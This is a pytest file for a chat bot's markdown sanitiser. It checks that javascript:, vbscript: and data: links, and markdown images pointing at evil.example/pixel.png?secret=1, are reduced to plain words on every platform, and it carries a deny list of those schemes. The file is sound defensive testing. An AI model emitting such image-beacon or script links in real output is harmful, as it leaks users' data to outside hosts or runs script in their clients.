"""An answer's links lead to the web or are words, and no picture of somebody else's server is fetched."""

import io

import pytest
from rich.console import Console

from agent.domain.content import Content
from bot.console.paint import painted
from bot.discord.markup import marked_up
from bot.markdown import without_traps
from bot.slack.blocks import neutral

TRAPS = {
    "[click](javascript:alert(1))": "click",
    "[click](JaVaScript:alert)": "click",
    "[click](java&#115;cript:alert)": "click",
    "[click]( <data:text/html;base64,AAAA> )": "click",
    "[click](vbscript:x 'title')": "click",
    "see ![the chart](https://evil.example/pixel.png?secret=1) now": "see the chart now",
    "![chart][1]\n\n[1]: https://evil.example/pixel.png": "chart",
    "[click][2]\n\n[2]: javascript:alert": "[click][2]",
    "<javascript:alert>": "alert",
}
HARMLESS = (
    "[docs](https://example.org/a_(b)) and <https://example.org> and <me@example.org>",
    "[mail](mailto:me@example.org), [here](#part), [there](../docs/x.md)",
    "`[x](javascript:y)` and\n```\n![a](http://b)\n```",
    "a[0](x) costs 3 < 4 and list[int]",
    "- [ ] a task\n- [x] done: yes",
)


@pytest.mark.parametrize("text", TRAPS)
def test_traps_become_words_on_every_platform(text: str) -> None:
    clean = without_traps(text)
    assert TRAPS[text] in clean
    assert clean.startswith(TRAPS[text])
    printed = io.StringIO()
    Console(file=printed, width=100, force_terminal=True).print(painted(Content(text=text)))
    for shown in (clean, neutral(text), marked_up(text), printed.getvalue()):
        assert not any(bad in shown.lower() for bad in ("javascript:", "data:", "vbscript:", "![", "(https://evil"))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_none_stays(text: str) -> None:
    assert without_traps(text) == text
